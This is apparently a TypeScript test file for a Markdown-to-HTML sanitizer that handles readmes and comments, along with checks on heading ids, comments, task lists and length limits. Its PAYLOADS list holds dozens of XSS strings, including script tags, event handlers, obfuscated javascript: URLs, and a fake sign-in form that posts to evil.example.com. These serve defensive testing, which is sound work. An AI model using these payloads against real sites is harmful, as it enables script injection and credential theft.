import {
  ALLOWED_ELEMENTS,
  renderMarkdown,
  renderMarkdownUpTo,
  type MarkdownKind,
} from '../../../src/surfaces/web/markdown';

const KINDS = ['readme', 'comment'] as const;

/** Typical attacks; each is Markdown, HTML, or both. */
const PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example.com/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><style><img src="</style><img src=x onerror=alert(1)>">',
  '<math><mtext></p><script>alert(1)</script>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="//evil.example.com">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="https://example.com" onclick="alert(1)" style="position:fixed">x</a>',
  '<form action="https://evil.example.com"><input name="password"><button>Sign in</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example.com">',
  '<link rel="stylesheet" href="//evil.example.com/x.css">',
  '<style>body { display: none }</style>',
  '<base href="https://evil.example.com/">',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](%6A%61vascript:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](data:image/svg+xml,<svg onload=alert(1)>)',
  '[x](file:///etc/passwd)',
  '[x](blob:https://example.com/1)',
  '[x](//evil.example.com/path)',
  '[x](/account/logout/)',
  '[x](\\\\evil.example.com)',
  '[x](<javascript:alert(1)>)',
  '[x](https://example.com "onmouseover=alert(1)")',
  '[x](https://example.com" onmouseover="alert(1))',
  '[x]: javascript:alert(1)\n\n[x]',
  '<javascript:alert(1)>',
  '<https://example.com/"onmouseover="alert(1)>',
  'https://example.com/"><script>alert(1)</script>',
  '![x](javascript:alert(1))',
  '![x](https://evil.example.com/pixel.gif)',
  '![x"onerror="alert(1)](https://evil.example.com/"onerror="alert(1))',
  '![](data:image/png;base64,AAAA)',
  '[![x](https://evil.example.com/a.gif)](https://example.com)',
  '![[x](javascript:alert(1))](https://evil.example.com/a.gif)',
  '```"><script>alert(1)</script>\ncode\n```',
  '``` html onload=alert(1)\n<script>alert(1)</script>\n```',
  '`<script>alert(1)</script>`',
  '    <script>alert(1)</script>',
  '| a | <script>alert(1)</script> |\n|:-:|--:|\n| <img src=x onerror=alert(1)> | b |',
  '# <img src=x onerror=alert(1)>\n\nx\n===\n',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '\u2028<script>\u2029alert(1)</script>',
  '\uD83D<script>alert(1)</script>\u0000',
  '*'.repeat(500) + '<script>' + '_'.repeat(500),
];

interface Element {
  readonly name: string;
  readonly attributes: Readonly<Record<string, string>>;
}

/** The elements of the result. A `<` or `"` that is not markup is escaped there, so this finds all of them. */
function elementsOf(html: string): Element[] {
  return [...html.matchAll(/<\/?([^\s/>]*)([^>]*)>/g)].map(([, name = '', rest = '']) => ({
    name,
    attributes: Object.fromEntries(
      [...rest.matchAll(/([^\s=/]+)(?:="([^"]*)")?/g)].map(([, key = '', value = '']) => [key, value]),
    ),
  }));
}

describe.each(KINDS)('Markdown of a %s', (kind: MarkdownKind) => {
  it.each(PAYLOADS)('has only elements and attributes of the list: %j', (payload) => {
    for (const text of [payload, `> * ${payload}`, `a ${payload} b\n\n${payload}`]) {
      const html = renderMarkdown(text, kind);
      for (const { name, attributes } of elementsOf(html)) {
        expect(ALLOWED_ELEMENTS[kind]).toContain(name);
        const { href, rel, tabindex, id, ...others } = attributes;
        expect(others).toEqual({});
        if (id !== undefined)
          expect([name, id]).toEqual([expect.stringMatching(/^h\d$/), expect.stringMatching(/^readme-/)]);
        if (tabindex !== undefined) expect([name, tabindex]).toEqual(['pre', '0']);
        if (href === undefined) expect(rel).toBeUndefined();
        else {
          expect(name).toBe('a');
          expect(href).toMatch(/^(https?:\/\/|mailto:)/);
          expect(rel).toBe('nofollow noopener noreferrer ugc');
        }
      }
      expect(html.replaceAll(/<\/?[a-z0-9]+( (href|rel|tabindex|id)="[^"]*")*( \/)?>/g, '')).not.toContain('<');
    }
  });
});

it('the list has no element that runs, loads or sends anything', () => {
  const harmful = /^(script|style|img|svg|math|iframe|object|embed|form|input|button|link|meta|base|video|audio)$/;
  for (const name of KINDS.flatMap((kind) => ALLOWED_ELEMENTS[kind])) expect(name).not.toMatch(harmful);
  expect(ALLOWED_ELEMENTS.readme).not.toContain('h1');
});

it('a readme has text, links, code, lists and tables', () => {
  const text = [
    'A *small* **server** for `docker`, ~~slow~~ fast: https://example.com and <me@example.com>',
    '* one\n* two',
    '```sh\ndocker run <name>\n```',
    '| a | b |\n|---|---|\n| 1 | 2 |',
    '> said\n\n---',
  ].join('\n\n');
  const html = renderMarkdown(text, 'readme');
  const rel = 'rel="nofollow noopener noreferrer ugc"';
  expect(html).toContain('<em>small</em> <strong>server</strong> for <code>docker</code>, <s>slow</s> fast');
  expect(html).toContain(`<a href="https://example.com" ${rel}>https://example.com</a>`);
  expect(html).toContain(`<a href="mailto:me@example.com" ${rel}>me@example.com</a>`);
  expect(html).toContain('<pre tabindex="0"><code>docker run &lt;name&gt;\n</code></pre>');
  for (const part of ['<li>one</li>', '<th>a</th>', '<td>2</td>', '<blockquote>', '<hr />'])
    expect(html).toContain(part);
});

it('headings are below that of the page, and skip no rank', () => {
  const ranks = (text: string): string[] =>
    [...renderMarkdown(text, 'readme').matchAll(/<(h\d) id="[^"]+">/g)].map(([, h]) => h!);
  expect(ranks('# a\n## b\n### c\n# d')).toEqual(['h2', 'h3', 'h4', 'h2']);
  expect(ranks('### a\n# b\n#### c\n## d')).toEqual(['h2', 'h2', 'h3', 'h3']);
  expect(ranks('# a\n## b\n### c\n#### d\n##### e\n###### f')).toEqual(['h2', 'h3', 'h4', 'h5', 'h6', 'h6']);
});

describe('links to headings of the same text', () => {
  const links = (text: string): (string | undefined)[] =>
    [...renderMarkdown(text, 'readme').matchAll(/<a( href="([^"]*)")?[^>]*>/g)].map(([, , href]) => href);
  const ids = (text: string): (string | undefined)[] =>
    [...renderMarkdown(text, 'readme').matchAll(/<h\d( id="([^"]*)")?>/g)].map(([, , id]) => id);

  it('lead to it, in the spelling of GitHub and in any case', () => {
    const text =
      '[a](#how-to-use-it) [b](#How-to-use-it) [c](#run-tests-1)\n\n# How to use it?\n\n## Run `tests`\n\n## Run tests\n';
    expect(ids(text)).toEqual(['readme-how-to-use-it', 'readme-run-tests', 'readme-run-tests-1']);
    expect(links(text)).toEqual(['#readme-how-to-use-it', '#readme-how-to-use-it', '#readme-run-tests-1']);
  });

  it('lead to headings in any script', () => {
    const text = '[x](#установка)\n\n# Установка\n';
    expect(ids(text)).toEqual(['readme-установка']);
    expect(links(text)).toEqual([`#readme-${encodeURIComponent('установка')}`]);
  });

  it('lead nowhere else: not to a missing heading, nor to a part of the page', () => {
    expect(links('[x](#missing) [y](#main) [z](#readme-here) [e](#) [p](#%zz)\n\n# Here')).toEqual(
      Array(5).fill(undefined),
    );
    expect(renderMarkdown('[x](#a)\n\n# a', 'comment')).not.toContain('href');
  });

  it('no two headings have the same id, and one without letters has none', () => {
    const found = ids('# a\n# a\n# a-1\n# a\n# !!!\n# "><script>\n# a');
    expect(found).toEqual([
      'readme-a',
      'readme-a-1',
      'readme-a-1-1',
      'readme-a-2',
      undefined,
      'readme-script',
      'readme-a-3',
    ]);
  });
});

describe.each(KINDS)('HTML that a %s may contain', (kind) => {
  it('is a line break', () => {
    for (const tag of ['<br>', '<br/>', '<BR />']) expect(renderMarkdown(`a${tag}b`, kind)).toBe('<p>a<br />\nb</p>\n');
    expect(renderMarkdown('`<br>` <brx> <br x>', kind)).toBe(
      '<p><code>&lt;br&gt;</code> &lt;brx&gt; &lt;br x&gt;</p>\n',
    );
  });

  it('is a comment, which is not shown', () => {
    expect(renderMarkdown('a <!-- hidden --> b', kind)).toBe('<p>a  b</p>\n');
    expect(renderMarkdown('<!-- hidden\n\n* over <script>\n\nparagraphs -->\n\nb', kind)).toBe('<p>b</p>\n');
    expect(renderMarkdown('a\n<!-- hidden -->\nb', kind)).toBe('<p>a</p>\n<p>b</p>\n');
    expect(renderMarkdown('<!-- a --> b <!-- c -->', kind)).not.toContain('--');
    expect(renderMarkdown('* x\n  <!-- hidden -->\n* y', kind)).not.toContain('hidden');
  });

  it('is shown if it is incomplete, or is code', () => {
    expect(renderMarkdown('a <!-- b', kind)).toBe('<p>a &lt;!-- b</p>\n');
    expect(renderMarkdown('<!-- a\n\nb', kind)).toBe('<p>&lt;!-- a</p>\n<p>b</p>\n');
    expect(renderMarkdown('`<!-- a -->`', kind)).toContain('<code>&lt;!-- a --&gt;</code>');
  });
});

it('pictures become links, and their text if they are in a link', () => {
  expect(renderMarkdown('![a & b](https://example.com/a.png)', 'readme')).toMatch(
    /<a href="https:\/\/example.com\/a.png" rel="[^"]+">a &amp; b<\/a>/,
  );
  expect(renderMarkdown('![](https://example.com/a.png)', 'readme')).toContain('>picture</a>');
  const badge = renderMarkdown('[![build](https://img.example.com/b.svg)](https://ci.example.com)', 'readme');
  expect(badge).toMatch(/^<p><a href="https:\/\/ci.example.com" rel="[^"]+">build<\/a><\/p>\s*$/);
});

it('a comment has no headings and tables, and keeps its lines', () => {
  expect(renderMarkdown('# a\nb\n\n| a |\n|---|\n| 1 |', 'comment')).toBe(
    '<p># a<br />\nb</p>\n<p>| a |<br />\n|---|<br />\n| 1 |</p>\n',
  );
});

describe('long text', () => {
  it('is shown whole if there is room, and otherwise as far as there is', () => {
    expect(renderMarkdownUpTo('a *b*', 'readme', 100)).toEqual({ html: '<p>a <em>b</em></p>\n', isCut: false });
    const long = renderMarkdownUpTo('word '.repeat(13_000), 'readme', 50_000);
    expect(long.isCut).toBe(true);
    expect(long.html.length).toBeGreaterThan(10_000);
    expect(long.html.length).toBeLessThan(50_000);
  });

  it.each([
    ['a table of empty cells', `|${'a|'.repeat(900)}\n|${'-|'.repeat(900)}\n${'|\n'.repeat(60_000 / 2)}`],
    ['nothing but emphasis', '*a* '.repeat(16_000)],
    ['nothing but what is escaped', '"<&>'.repeat(16_000)],
    ['links without end', '[a](http://a.example) '.repeat(3000)],
    ['brackets that open', '['.repeat(65_000)],
    ['quotes in quotes', '> '.repeat(32_000)],
    ['comments that never end', '<!--'.repeat(16_000)],
    ['lines of comments that never end', '<!--\n'.repeat(12_000)],
    ['headings of the same words', '# a\n'.repeat(16_000)],
    ['list in list', '* '.repeat(32_000)],
  ])('never becomes larger than a page has room for: %s', (_what, text) => {
    const { html } = renderMarkdownUpTo(text, 'readme', 64_000);
    expect(html.length).toBeLessThanOrEqual(64_000);
    expect(html.length).toBeGreaterThan(0);
  });
});

it('a list of tasks has a box in front of each, and nothing else has', () => {
  const html = renderMarkdown('- [ ] open <b>\n- [x] **done**\n- [X] also\n- [y] no\n- x [ ] no\n\n[ ] no', 'readme');
  const items = [...html.matchAll(/<li>(.*?)<\/li>/gs)].map(([, text = '']) => text.trim());
  expect(items).toEqual(['☐ open &lt;b&gt;', '☑ <strong>done</strong>', '☑ also', '[y] no', 'x [ ] no']);
  expect(html).toContain('<p>[ ] no</p>');
});
